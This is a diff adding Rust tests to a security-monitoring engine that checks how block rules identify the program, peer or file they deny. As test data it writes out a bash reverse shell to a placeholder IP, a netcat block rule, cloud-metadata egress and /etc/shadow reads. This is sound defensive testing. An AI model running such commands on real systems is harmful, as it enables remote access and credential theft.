@@ -6,7 +6,7 @@ use std::collections::BTreeMap;
 
 use sentry_core::decision::{Severity, Verdict, Word};
 use sentry_core::engine::{Engine, LineStream, Outcome};
-use sentry_core::event::{EventKind, Scratch};
+use sentry_core::event::{EventKind, Scratch, TargetFrom};
 use sentry_core::policy::{BUILTIN_RULES, Origin, Policy, check};
 use sentry_testing::Random;
 
@@ -401,4 +401,85 @@ fn adversarial_subjects_take_linear_time() {
             );
         }
     }
+}
+
+/// How the target of a block is known: `None` if a site rule asked for it.
+fn target_from(policy: &str, line: &str) -> Option<TargetFrom> {
+    let engine = Engine::new(check(policy, &|_| None).policy.unwrap()).unwrap();
+    let judgement = engine.judge(line.as_bytes(), &mut Scratch::default());
+    assert!(judgement.has_target(), "{line}");
+    judgement.target_from()
+}
+
+fn exec(exe: Option<&str>, argv: &[&str]) -> String {
+    let process = exe.map_or_else(String::new, |exe| {
+        format!(r#""process":{{"exe":"{exe}"}},"#)
+    });
+    let argv: Vec<String> = argv.iter().map(|word| format!(r#""{word}""#)).collect();
+    format!(
+        r#"{{{process}"event":{{"ToolExec":{{"pid":1,"argv":[{}]}}}}}}"#,
+        argv.join(",")
+    )
+}
+
+const REVERSE: &str = "bash -i >& /dev/tcp/192.0.2.1/9 0>&1";
+const NETCAT: &str = r#"rule "netcat" { on = ["ToolExec", "FileAccess"] match = "(^|[/ ])nc( |$)"
+    verdict = "block" severity = "high" reason = "no" action = "deny-exec" }"#;
+
+#[test]
+fn a_built_in_block_denies_by_itself_what_the_kernel_reported() {
+    let forged = ["/usr/bin/sudo", "-c", REVERSE];
+    assert_eq!(
+        target_from("", &exec(None, &forged)),
+        Some(TargetFrom::Argv)
+    );
+    let observed = exec(Some("/usr/bin/bash"), &forged);
+    assert_eq!(target_from("", &observed), Some(TargetFrom::Observed));
+    let relative = exec(Some("bash"), &forged);
+    assert_eq!(target_from("", &relative), Some(TargetFrom::Argv));
+}
+
+#[test]
+fn a_site_rule_asks_for_the_program_that_it_matches() {
+    for line in [
+        exec(None, &["/usr/bin/nc", "-l"]),
+        exec(Some("/usr/bin/nc.openbsd"), &["nc", "-l"]),
+        exec(None, &["/opt/git", "commit", "-m", "nc x"]),
+    ] {
+        assert_eq!(target_from(NETCAT, &line), None, "{line}");
+    }
+}
+
+#[test]
+fn a_site_rule_does_not_ask_for_a_shell_or_wrapper_around_what_it_matches() {
+    for argv in [
+        ["/bin/bash", "-c", "nc -l"],
+        ["/usr/bin/sudo", "nc", "-l"],
+        ["/usr/bin/python3", "/opt/nc", "x"],
+    ] {
+        let line = exec(None, &argv);
+        assert_eq!(target_from(NETCAT, &line), Some(TargetFrom::Argv), "{line}");
+        let line = exec(Some("/usr/bin/env"), &argv);
+        assert_eq!(
+            target_from(NETCAT, &line),
+            Some(TargetFrom::Observed),
+            "{line}"
+        );
+    }
+    let sudo = NETCAT.replace("(^|[/ ])nc( |$)", "(^|/)sudo( |$)");
+    let line = exec(None, &["/usr/bin/sudo", "nc", "-l"]);
+    assert_eq!(target_from(&sudo, &line), None);
+    let any = NETCAT.replace("(^|[/ ])nc( |$)", "");
+    assert_eq!(target_from(&any, &exec(None, &["/bin/sh"])), None);
+}
+
+#[test]
+fn peers_and_paths_are_observed_unless_a_site_rule_asks() {
+    let peer = r#"{"event":{"Egress":{"pid":1,"peer":"169.254.169.254"}}}"#;
+    assert_eq!(target_from("", peer), Some(TargetFrom::Observed));
+    let path = r#"{"event":{"FileAccess":{"pid":1,"path":"/etc/shadow"}}}"#;
+    assert_eq!(target_from("", path), Some(TargetFrom::Observed));
+    let site = r#"rule "shadow" { on = "FileAccess" match = "^/etc/shadow$"
+        verdict = "block" severity = "high" reason = "no" action = "deny-file" }"#;
+    assert_eq!(target_from(site, path), None);
 }
